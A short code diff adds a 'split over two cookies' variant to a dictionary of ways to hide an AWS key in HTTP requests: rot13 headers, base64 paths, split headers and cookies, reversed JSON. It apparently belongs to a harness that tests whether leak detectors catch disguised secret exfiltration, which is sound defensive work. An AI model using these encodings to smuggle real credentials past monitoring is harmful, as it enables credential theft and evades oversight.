@@ -196,6 +196,9 @@ CHANNELS = {
         "headers": {"User-Agent": "tool/1.0 " + codecs.encode(AWS_KEY, "rot13")}},
     "base64 in the path": lambda t: {
         "url_suffix": f"/p/{base64.urlsafe_b64encode(AWS_KEY.encode()).decode()}?t={t}"},
+    "split over two cookies": lambda t: {
+        "url_suffix": f"/ck?t={t}",
+        "headers": {"Cookie": f"session=abc123; a={AWS_KEY[:10]}; b={AWS_KEY[10:]}"}},
     "split over two headers": lambda t: {
         "url_suffix": f"/hh?t={t}", "headers": {"X-Part-1": AWS_KEY[:9], "X-Part-2": AWS_KEY[9:]}},
     "reversed in json": lambda t: {"url_suffix": f"/rv?t={t}",
